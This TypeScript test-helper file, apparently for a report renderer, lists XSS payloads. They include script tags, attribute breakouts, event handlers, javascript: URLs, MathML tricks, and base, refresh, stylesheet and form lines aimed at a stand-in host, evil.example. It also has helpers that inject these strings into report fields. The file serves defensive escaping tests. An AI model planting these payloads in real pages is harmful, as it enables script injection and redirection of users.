/** Strings that attack a page, and values with any texts in the place of those of others. */
import type { CheckReport } from "@holdfast/check/CheckReport"
import { filled } from "./everyField.ts"

export const hostileHtml: Readonly<Record<string, string>> = {
  "a script": "<script>window.owned=1;alert(1)</script>",
  "the end of an attribute and an image": `"><img src=x onerror="window.owned=1;alert(1)">`,
  "the end of a quoted attribute": `'><svg onload='window.owned=1'>`,
  "a handler": `" onmouseover="window.owned=1" autofocus onfocus="window.owned=1" x="`,
  "a javascript url": "javascript:window.owned=1",
  "the end of the style": "</style><script>window.owned=1</script>",
  "the end of the title": "</title><script>window.owned=1</script>",
  "the end of a comment": "--><script>window.owned=1</script><!--",
  "a frame": `<iframe srcdoc="<script>parent.owned=1</script>"></iframe>`,
  "another base": `<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">`,
  "a style that loads": `<style>@import "https://evil.example/x.css"</style><link rel=stylesheet href=https://evil.example/x.css>`,
  "a template and a form": `<template><form action="https://evil.example"><input name=a></form></template><button>`,
  "MathML and a namespace":
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
  "NUL within a tag": "<scr\0ipt>window.owned=1</scr\0ipt>",
  entities: "&lt;script&gt;&#60;img src=x onerror=alert(1)&#62;&amp;amp;&nbsp;",
  "lone surrogates within a tag": "<\ud800script>\udfff</script>",
  "code points that are no characters": "a\ufffeb\uffffc\u{1fffe}d\u{10ffff}e",
  backticks: "`-alert(1)-`"
}

/** Fields whose texts are ours: the schema allows no others. */
const closed = new Set(["state", "severity", "mode", "kind", "fail_on", "baseline"])

/** A value with another text in each field that holds one of others, names of tags and variables included; `ours` hold none. */
export const putIn = <A>(
  value: A,
  textOf: (index: number, name: string) => string,
  ours: ReadonlySet<string> = closed
): A => {
  let index = 0
  const next = (path: ReadonlyArray<string>) => textOf(index++, path.join("."))
  const changed = <A>(value: A, path: ReadonlyArray<string>): A => {
    const key = path.at(-1) ?? ""
    const out: unknown =
      typeof value === "string"
        ? ours.has(key)
          ? value
          : next(path)
        : Array.isArray(value)
          ? value.map((item) => changed(item, path))
          : typeof value === "object" && value !== null
            ? Object.fromEntries(
                Object.entries(value).map(([name, item]) => [
                  key === "tags" || key === "variables" ? next(path) : name,
                  changed(item, [...path, name])
                ])
              )
            : value
    return out as A
  }
  return changed(value, [])
}

/** The report with another text in each field that holds one of others, names of tags and variables included. */
export const put = (report: CheckReport, textOf: (index: number, path: string) => string): CheckReport => {
  let index = 0
  return filled(report, (path) => textOf(index++, path))
}

const unseen =
  /[\u0000-\u001f\u007f-\u009f\u00ad\u061c\u180e\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufe00-\ufe0d\ufeff\ufff9-\ufffb]/

/** How a page shows a text. */
export const visible = (text: string): string =>
  Array.from(text, (character) => {
    const code = character.codePointAt(0) ?? 0
    const isNone =
      (code & 0xfffe) === 0xfffe || (code >= 0xfdd0 && code <= 0xfdef) || (code >= 0xd800 && code <= 0xdfff)
    if (character === "\n") return "\\n"
    if (character === "\r") return "\\r"
    if (character === "\t") return "\\t"
    if (
      !isNone &&
      !unseen.test(character) &&
      !(code >= 0xe0000 && code <= 0xe007f) &&
      !(code >= 0xe0100 && code <= 0xe01ef)
    )
      return character
    return code < 0x100 ? `\\x${code.toString(16).padStart(2, "0")}` : `\\u{${code.toString(16).padStart(4, "0")}}`
  }).join("")
